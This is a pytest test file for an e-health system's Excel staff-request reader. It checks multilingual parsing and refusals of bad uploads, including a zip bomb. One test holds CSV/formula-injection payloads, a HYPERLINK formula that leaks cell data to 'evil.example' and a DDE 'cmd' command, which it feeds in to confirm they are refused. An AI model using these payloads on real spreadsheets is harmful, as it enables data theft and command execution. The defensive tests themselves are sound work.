"""Request sheets (clause 2 in Excel): the template in each language, read back in any language and column order,
and every unreadable, oversized or formula-carrying upload refused as a whole with a message that says why."""

from __future__ import annotations

import io
import zipfile
from collections.abc import Sequence
from dataclasses import replace
from datetime import date
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook
from openpyxl.worksheet.formula import ArrayFormula
from sqlalchemy.orm import Session

from components.labels import document_label, role_label
from ehealth.access.request_sheet import COLUMNS, SheetRow, read_sheet, read_sheet_rows, template
from ehealth.access.requests import PersonEntry, RequestInvalid, file_request
from ehealth.audit.trail import Actor
from ehealth.errors import ValidationError
from ehealth.i18n import LANGUAGES, gettext, language
from ehealth.identifiers import make_pinfl
from tests import factories

FIELDS = [field for field, _ in COLUMNS]
MANAGER = Actor(None, "manager", None, "10.1.1.1")


def person(n: int, role: str = "doctor", document_type: str = "passport") -> PersonEntry:
    """A correct person as the sheet should read it back."""
    return PersonEntry(
        surname="Qodirov",
        given_name="Sherzod",
        patronymic="Anvarovich",
        position="Terapevt shifokor",
        department_name="Terapiya bo'limi",
        document_type=document_type,
        document=f"AB{1000000 + n}",
        pinfl=make_pinfl(date(1985, 4, 2), "male", 500, n),
        email=f"sherzod{n}@example.uz",
        role=role,
    )


def cells(entry: PersonEntry, **typed: object) -> list[object]:
    """The row of `entry` in template column order, with some cells typed otherwise (a label, a number)."""
    return [typed.get(field, getattr(entry, field)) for field in FIELDS]


def fill(data: bytes, rows: Sequence[Sequence[Any]], start: int = 2) -> bytes:
    """The workbook `data` with `rows` typed into its first sheet from row `start`, as a manager would."""
    workbook = load_workbook(io.BytesIO(data))
    sheet = workbook.worksheets[0]
    for offset, row in enumerate(rows):
        for column, value in enumerate(row, start=1):
            sheet.cell(row=start + offset, column=column, value=value)
    return save(workbook)


def save(workbook: Workbook) -> bytes:
    buffer = io.BytesIO()
    workbook.save(buffer)
    return buffer.getvalue()


def sheet(rows: Sequence[Sequence[object]]) -> bytes:
    """A workbook made from scratch (not from the template) holding `rows` from A1."""
    workbook = Workbook()
    for row in rows:
        workbook.worksheets[0].append(list(row))
    return save(workbook)


def header(lang: str = "en") -> list[str]:
    with language(lang):
        return [gettext(msgid) for _, msgid in COLUMNS]


def refusal(data: bytes, max_rows: int = 500) -> str:
    """The English message of the ValidationError(field="file") the upload is refused with."""
    with pytest.raises(ValidationError) as refused:
        read_sheet(data, max_rows=max_rows)
    assert refused.value.field == "file"
    with language("en"):
        return str(refused.value)


def with_member(data: bytes, name: str, content: bytes) -> bytes:
    """The zip `data` with one member replaced or added."""
    source = zipfile.ZipFile(io.BytesIO(data))
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            if item.filename != name:
                target.writestr(item, source.read(item.filename))
        target.writestr(name, content)
    return buffer.getvalue()


# --- the template and the round trip ----------------------------------------------------------------------------


@pytest.mark.parametrize("lang", LANGUAGES)
def test_the_template_is_titled_in_its_language_with_lists_and_text_columns(lang: str) -> None:
    workbook = load_workbook(io.BytesIO(template(lang)))
    people = workbook.worksheets[0]
    assert [cell.value for cell in people[1]] == header(lang)
    assert people.freeze_panes == "A2"
    for field in ("document", "pinfl", "email"):
        letter = chr(ord("A") + FIELDS.index(field))
        assert people.column_dimensions[letter].number_format == "@"
        assert people[f"{letter}2"].number_format == "@" and people[f"{letter}501"].number_format == "@"
    assert all(people.column_dimensions[chr(ord("A") + i)].width >= 14 for i in range(len(FIELDS)))
    lists = {str(validation.sqref): validation.formula1 for validation in people.data_validations.dataValidation}
    assert lists == {"F2:F501": "document_types", "J2:J501": "roles"}
    with language(lang):
        roles = [role_label(role) for role in ("doctor", "nurse", "registrar", "pharmacist", "manager")]
        documents = [document_label("passport"), document_label("id_card")]
    for name, labels in (("roles", roles), ("document_types", documents)):
        ((title, reference),) = workbook.defined_names[name].destinations
        assert [row[0].value for row in workbook[title][reference]] == labels


@pytest.mark.parametrize("lang", LANGUAGES)
def test_a_filled_template_reads_back_with_labels_of_any_language_and_numeric_pinfls(lang: str) -> None:
    other = LANGUAGES[(LANGUAGES.index(lang) + 1) % len(LANGUAGES)]
    first, second, third = person(1), person(2, "nurse", "id_card"), person(3, "pharmacist")
    with language(lang):
        typed_first = {"role": role_label("doctor"), "document_type": document_label("passport")}
    with language(other):
        typed_second = {"role": role_label("nurse"), "document_type": document_label("id_card")}
    rows = [
        cells(first, **typed_first),
        cells(second, pinfl=int(second.pinfl), **typed_second),  # typed into a General cell: a number
        cells(third, pinfl=float(third.pinfl), role="PHARMACIST"),  # a float, and the raw code in capitals
    ]
    read = read_sheet_rows(fill(template(lang), rows))
    assert read == [SheetRow(2, first), SheetRow(3, second), SheetRow(4, third)]
    assert read_sheet(fill(template(lang), rows)) == [first, second, third]


def test_columns_in_any_order_titled_in_any_language_below_a_title_row() -> None:
    order = [8, 0, 9, 1, 2, 3, 4, 5, 6, 7]
    titles = [header("ru")[i] if i % 3 == 0 else header("uz")[i] if i % 3 == 1 else FIELDS[i] for i in order]
    expected = [person(1), person(2, "registrar")]
    rows: list[list[object]] = [
        ["So'rov: xodimlar ro'yxati"],  # a title above the header
        [],
        ["No.", *[f"  {title.upper()} *" for title in titles]],  # an extra column; spacing, case and * do not count
        *[[n, *[cells(entry)[i] for i in order]] for n, entry in enumerate(expected, start=1)],
    ]
    rows.insert(4, [])  # a blank row between two people is skipped
    assert read_sheet_rows(sheet(rows)) == [SheetRow(4, expected[0]), SheetRow(6, expected[1])]


def test_cells_are_stripped_empty_cells_are_empty_and_unknown_labels_kept() -> None:
    entry = person(1)
    padded: list[object] = [f"  {value}\t" for value in cells(entry)]
    padded[FIELDS.index("patronymic")] = None
    padded[FIELDS.index("role")] = "Bosh shifokor"  # not a role: left for file_request to report
    padded[FIELDS.index("document_type")] = "Haydovchilik guvohnomasi"
    (read,) = read_sheet(sheet([header(), padded]))
    assert read == replace(entry, patronymic="", role="Bosh shifokor", document_type="Haydovchilik guvohnomasi")


@settings(max_examples=40, deadline=None)
@given(st.integers(min_value=10**13, max_value=10**14 - 1), st.sampled_from(["text", "int", "exponent", "decimal"]))
def test_a_pinfl_of_14_digits_reads_back_exactly_however_it_was_stored(number: int, stored: str) -> None:
    data = sheet([header(), cells(person(1), pinfl=str(number) if stored == "text" else number)])
    if stored in ("exponent", "decimal"):
        # openpyxl writes whole floats without ".0"; Excel and other writers may store 3.0101901234569E+13.
        xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
        value = f"{number:.13E}" if stored == "exponent" else f"{number}.0"
        assert xml.count(f"<v>{number}</v>") == 1
        data = with_member(
            data, "xl/worksheets/sheet1.xml", xml.replace(f"<v>{number}</v>", f"<v>{value}</v>").encode()
        )
    (read,) = read_sheet(data)
    assert read.pinfl == str(number)


def test_titles_and_labels_name_one_thing_in_every_language() -> None:
    titles: dict[str, str] = {}
    roles: dict[str, str] = {}
    documents: dict[str, str] = {}
    for lang in LANGUAGES:
        for field, title in zip(FIELDS, header(lang), strict=True):
            assert titles.setdefault(title.casefold(), field) == field, (lang, title)
        with language(lang):
            for role in ("doctor", "nurse", "registrar", "pharmacist", "manager"):
                assert roles.setdefault(role_label(role).casefold(), role) == role, (lang, role)
            for kind in ("passport", "id_card"):
                assert documents.setdefault(document_label(kind).casefold(), kind) == kind, (lang, kind)


# --- refusals ---------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "data",
    [
        b"",
        b"this is not a workbook at all",
        b"Familiya,Ism\nQodirov,Sherzod\n",  # a .csv renamed .xlsx
        b"<html><table><tr><td>PINFL</td></tr></table></html>",  # what some systems save as .xls
    ],
)
def test_what_is_not_a_workbook_is_refused(data: bytes) -> None:
    assert "not an Excel workbook (.xlsx)" in refusal(data)


def test_a_zip_that_is_not_a_spreadsheet_is_refused() -> None:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("[Content_Types].xml", "<Types/>")
        archive.writestr("word/document.xml", "<document/>")
    assert "not an Excel workbook (.xlsx)" in refusal(buffer.getvalue())


def test_old_xls_and_password_protected_workbooks_are_refused() -> None:
    compound = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    assert ".xls" in refusal(compound + "Workbook".encode("utf-16-le"))
    assert "password" in refusal(compound + "EncryptionInfo".encode("utf-16-le"))


def test_a_damaged_or_truncated_workbook_is_refused() -> None:
    data = template("en")
    assert "damaged" in refusal(data[: len(data) // 2])
    assert "damaged" in refusal(with_member(data, "xl/worksheets/sheet1.xml", b"<worksheet><sheetData><row"))
    assert "damaged" in refusal(with_member(data, "xl/workbook.xml", b"not xml"))


def test_a_file_over_2_mb_is_refused_before_it_is_read() -> None:
    assert "larger than 2 MB" in refusal(b"PK\x03\x04" + bytes(2 * 1024 * 1024))


def test_a_zip_bomb_is_refused_before_it_is_unpacked() -> None:
    data = with_member(template("en"), "xl/media/padding.bin", bytes(64 * 1024 * 1024))
    assert len(data) < 2 * 1024 * 1024
    assert "too large once unpacked" in refusal(data)


def test_missing_columns_are_named_in_the_readers_language() -> None:
    data = sheet([header()[:4], cells(person(1))[:4]])
    with pytest.raises(ValidationError) as refused:
        read_sheet(data)
    with language("en"):
        assert str(refused.value) == (
            "The header row lacks these columns: Department, Identity document, Document series and number, "
            "PINFL, E-mail, Role"
        )
    with language("ru"):
        assert gettext("PINFL") in str(refused.value) and gettext("Role") in str(refused.value)


def test_a_column_given_twice_is_refused() -> None:
    assert "“PINFL” appears twice" in refusal(sheet([[*header(), "PINFL"], cells(person(1))]))


def test_a_sheet_without_the_header_is_refused() -> None:
    assert "header row" in refusal(sheet([]))
    assert "header row" in refusal(sheet([cells(person(1))]))  # people typed without the titles


def test_a_template_with_nobody_in_it_is_refused() -> None:
    assert "lists nobody" in refusal(template("uz"))
    assert "lists nobody" in refusal(fill(template("uz"), [[None] * 10, [" "] * 10]))


def test_more_people_than_the_limit_are_refused() -> None:
    rows = [cells(person(n)) for n in range(1, 5)]
    assert len(read_sheet(fill(template("en"), rows[:3]), max_rows=3)) == 3
    assert "more than 3 people" in refusal(fill(template("en"), rows), max_rows=3)


def test_rows_far_below_the_list_are_refused_without_reading_a_million_rows() -> None:
    workbook = load_workbook(io.BytesIO(fill(template("en"), [cells(person(1))])))
    workbook.worksheets[0]["A1048576"] = "Qodirov"
    workbook.worksheets[0]["XFD1048576"] = "x"
    assert "rows past row 10001" in refusal(save(workbook))


@pytest.mark.parametrize(
    ("value", "text"),
    [
        ("=1+1", False),
        ('=HYPERLINK("http://evil.example/?"&A2,"Click")', False),
        ("=cmd|' /C calc'!A0", True),  # typed as text, still a formula once exported to a spreadsheet
        (ArrayFormula("H3", "=SUM(1)"), False),
    ],
)
def test_a_formula_in_a_cell_is_refused_naming_row_and_column(value: object, text: bool) -> None:
    data = fill(template("en"), [cells(person(1)), cells(person(2))])
    workbook = load_workbook(io.BytesIO(data))
    cell = workbook.worksheets[0]["H3"]
    cell.value = value
    if text:
        cell.data_type = "s"
    assert refusal(save(workbook)) == "Row 3, column H (PINFL) holds a formula; type the value itself"


def test_a_formula_outside_the_template_columns_is_not_read_at_all() -> None:
    rows: list[list[object]] = [[*header(), "No."], [*cells(person(1)), "=ROW()-1"]]
    assert read_sheet(sheet(rows)) == [person(1)]


# --- with file_request ------------------------------------------------------------------------------------------


def test_errors_of_file_request_point_at_sheet_rows(session: Session) -> None:
    org = factories.organization(session)
    bad = replace(person(2), pinfl=person(2).pinfl[:-1] + str((int(person(2).pinfl[-1]) + 1) % 10))
    data = fill(template("ru"), [cells(person(1)), [], cells(bad, pinfl=int(bad.pinfl)), cells(person(3))])
    rows = read_sheet_rows(data)
    with pytest.raises(RequestInvalid) as refused:
        file_request(
            session,
            organization_id=org.id,
            modules=["polyclinic"],
            people=[row.entry for row in rows],
            letter_number="01-12/345",
            contact_name="Karimov Aziz",
            contact_phone="+998 71 200 00 00",
            received_on=date(2026, 3, 2),
            author=MANAGER,
        )
    errors = refused.value.errors
    assert set(errors) == {1} and set(errors[1]) == {"pinfl"}
    assert rows[1].row_number == 4  # the sheet's own row, past the blank one
